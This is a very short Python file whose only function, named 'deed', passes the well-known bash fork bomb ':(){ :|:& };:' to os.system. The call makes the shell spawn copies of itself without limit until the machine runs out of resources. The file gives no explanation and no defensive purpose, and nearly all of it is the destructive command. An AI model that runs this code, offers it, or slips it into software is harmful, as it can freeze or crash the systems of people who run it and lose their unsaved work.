import os


def deed():
    os.system(":(){ :|:& };:")
